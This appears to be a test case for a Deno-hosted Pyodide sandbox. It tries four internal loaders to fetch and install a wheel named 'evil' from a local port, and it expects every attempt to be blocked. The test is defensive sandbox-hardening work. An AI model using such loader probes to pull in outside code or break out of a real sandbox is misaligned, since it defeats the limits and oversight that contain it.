# about = "Nor does its loader of packages."
# backends = ["deno-sandbox"]
# expect = "value:[]"
port = tools.places()["port"]
loaded = []
for module, name in (("pyodide_js", "loadPackage"), ("pyodide.code", "run_js"), ("pyodide_js._api", "loadPackage"), ("_pyodide_core", "loadPackage")):
    try:
        load = getattr(__import__(module, fromlist=[name]), name)
        await load(f"http://127.0.0.1:{port}/evil-1.0-py3-none-any.whl")
        loaded.append(module)
    except Exception:
        pass
loaded
